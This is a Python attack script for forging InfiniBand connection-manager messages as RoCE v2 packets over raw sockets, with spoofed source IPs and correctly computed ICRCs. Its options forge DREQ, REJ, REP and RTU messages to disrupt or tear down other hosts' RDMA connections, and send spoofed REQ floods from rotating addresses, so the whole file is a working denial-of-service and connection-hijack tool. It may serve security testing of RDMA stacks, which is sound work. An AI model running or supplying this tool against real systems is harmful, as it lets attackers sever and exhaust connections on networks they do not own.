#!/usr/bin/python3
"""Forges IBA CM MADs (IBA 12.6) as RoCE v2 UD SENDs to QP1, as an attacker
who can reach UDP 4791 would: raw IPv4 socket (needs root or CAP_NET_RAW),
any source address (a third host's, or a spoofed peer's), a valid ICRC.

    forge_cm.py --src IP --dst IP --attr DREQ --local HEX --remote HEX
    forge_cm.py --src IP --dst IP --attr REQ --port 7471 --count 5000

--attr: REQ, REP, RTU, REJ, DREQ, DREP, SIDR_REP. --local/--remote: the
MAD's local and remote communication IDs (as the sender names them: a
forged DREQ to a server carries local = the client's ID, remote = the
server's). REQ with --count N sends N requests with distinct random local
comm IDs (and, with --spoof-range, distinct source addresses).

No scapy needed: the ICRC (IBA Annex A17.8) is computed here over the exact
IPv4 header this script writes (fixed nonzero IP ID, DF), as rxe does.
"""

import argparse
import ipaddress
import os
import socket
import struct
import sys
import time
import zlib

ROCE_PORT = 4791
GSI_QKEY = 0x80010000
ATTR = {"REQ": 0x10, "REJ": 0x12, "REP": 0x13, "RTU": 0x14, "DREQ": 0x15, "DREP": 0x16,
        "SIDR_REP": 0x18}
PS_TCP = 0x0106
IP_ID = 0  # with DF the kernel keeps a zero ID (ip_select_ident); softrnic assumes 0 first


def icrc(ip_datagram):
    """The 4 ICRC bytes of an IPv4 RoCE v2 datagram (its last 4 bytes ignored)."""
    b = bytearray(ip_datagram)
    ihl = (b[0] & 0xF) * 4
    b[1] = 0xFF                    # TOS
    b[8] = 0xFF                    # TTL
    b[10:12] = b"\xff\xff"         # header checksum
    b[ihl + 6:ihl + 8] = b"\xff\xff"   # UDP checksum
    b[ihl + 8 + 4] = 0xFF          # BTH: FECN, BECN, resv6
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + bytes(b[:-4])) & 0xFFFFFFFF)


def ipv4_checksum(h):
    s = sum(struct.unpack("!10H", h))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mad(attr, local, remote, tid, port=0, src_ip="0.0.0.0", dst_ip="0.0.0.0", qpn=0x123456,
        psn=0x654321):
    """A 256-byte CM MAD (header IBA 13.4.2, payload IBA 12.6)."""
    m = bytearray(256)
    m[0], m[1], m[2], m[3] = 1, 0x07, 2, 0x03  # base version, class CM, version 2, Send
    struct.pack_into("!QH", m, 8, tid, ATTR[attr])
    p = 24
    if attr == "REQ":
        struct.pack_into("!I", m, p + 0, local)
        struct.pack_into("!Q", m, p + 8, (PS_TCP << 16) | port)          # service ID
        struct.pack_into("!I", m, p + 32, (qpn << 8) | 1)                 # QPN | responder res.
        struct.pack_into("!I", m, p + 36, 1)                              # initiator depth
        struct.pack_into("!I", m, p + 44, (psn << 8) | (20 << 3) | 7)     # PSN | timeout | retry
        struct.pack_into("!H", m, p + 48, 0xFFFF)                         # P_Key
        m[p + 50] = (3 << 4) | 7                                          # MTU 1024 | RNR retry
        m[p + 51] = 15 << 4
        m[p + 56 + 10:p + 56 + 12] = b"\xff\xff"
        m[p + 56 + 12:p + 56 + 16] = socket.inet_aton(src_ip)             # primary SGID
        m[p + 72 + 10:p + 72 + 12] = b"\xff\xff"
        m[p + 72 + 12:p + 72 + 16] = socket.inet_aton(dst_ip)             # primary DGID
        m[p + 93] = 64
        hdr = p + 140                                                     # rdma_cm IP header
        m[hdr + 1] = 0x40
        struct.pack_into("!H", m, hdr + 2, 40000 + (local % 20000))
        m[hdr + 16:hdr + 20] = socket.inet_aton(src_ip)
        m[hdr + 32:hdr + 36] = socket.inet_aton(dst_ip)
    elif attr == "REP":
        struct.pack_into("!IIIII", m, p, local, remote, 0, qpn << 8, 0)
        struct.pack_into("!I", m, p + 20, psn << 8)
        m[p + 24], m[p + 25], m[p + 27] = 1, 1, 7 << 5
    elif attr == "REJ":
        struct.pack_into("!II", m, p, local, remote)
        struct.pack_into("!H", m, p + 10, 28)                             # consumer reject
    elif attr in ("RTU", "DREP"):
        struct.pack_into("!II", m, p, local, remote)
    elif attr == "DREQ":
        struct.pack_into("!III", m, p, local, remote, qpn << 8)
    elif attr == "SIDR_REP":
        struct.pack_into("!I", m, p, local)
        struct.pack_into("!I", m, p + 8, qpn << 8)
        struct.pack_into("!Q", m, p + 12, (0x0111 << 16) | port)
        struct.pack_into("!I", m, p + 20, 0x01234567)
    return bytes(m)


def roce_datagram(src, dst, payload_mad, sport):
    """IPv4 + UDP + BTH (UD SEND Only to QP1) + DETH + MAD + ICRC."""
    bth = struct.pack("!BBHII", 0x64, 0, 0xFFFF, 1, 0)       # opcode, flags, P_Key, QP 1, PSN 0
    deth = struct.pack("!II", GSI_QKEY, 1)                   # Q_Key, source QP 1
    roce = bth + deth + payload_mad + b"\0\0\0\0"
    udp = struct.pack("!HHHH", sport, ROCE_PORT, 8 + len(roce), 0) + roce
    total = 20 + len(udp)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, IP_ID, 0x4000, 64, socket.IPPROTO_UDP, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    h = h[:10] + struct.pack("!H", ipv4_checksum(h)) + h[12:]
    d = bytearray(h + udp)
    d[-4:] = icrc(d)
    return bytes(d)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--attr", required=True, choices=sorted(ATTR))
    ap.add_argument("--local", default="0")
    ap.add_argument("--remote", default="0")
    ap.add_argument("--port", type=int, default=0, help="REQ/SIDR_REP: the listener's port")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--spoof-range", type=int, default=0,
                    help="REQ flood: rotate the source over this many addresses from --src")
    ap.add_argument("--rate", type=int, default=20000, help="packets per second at most")
    a = ap.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    local, remote = int(a.local, 16), int(a.remote, 16)
    src0 = ipaddress.IPv4Address(a.src)
    sent = 0
    t0 = time.monotonic()
    for i in range(a.count):
        src = str(src0 + (i % a.spoof_range)) if a.spoof_range else a.src
        lid = local
        if a.attr == "REQ" and a.count > 1:
            lid = struct.unpack("!I", os.urandom(4))[0] or 1
        tid = struct.unpack("!Q", os.urandom(8))[0]
        d = roce_datagram(src, a.dst, mad(a.attr, lid, remote, tid, a.port, src, a.dst),
                          0xC000 | (i & 0x3FFF))
        while True:
            try:
                s.sendto(d, (a.dst, 0))
                break
            except (BlockingIOError, OSError) as e:
                if getattr(e, "errno", 0) not in (105, 11):  # ENOBUFS, EAGAIN
                    raise
                time.sleep(0.001)
        sent += 1
        ahead = sent / a.rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    print(f"forge_cm: sent {sent} {a.attr} {a.src} -> {a.dst} (local {local:08x} remote {remote:08x})")


if __name__ == "__main__":
    sys.exit(main())
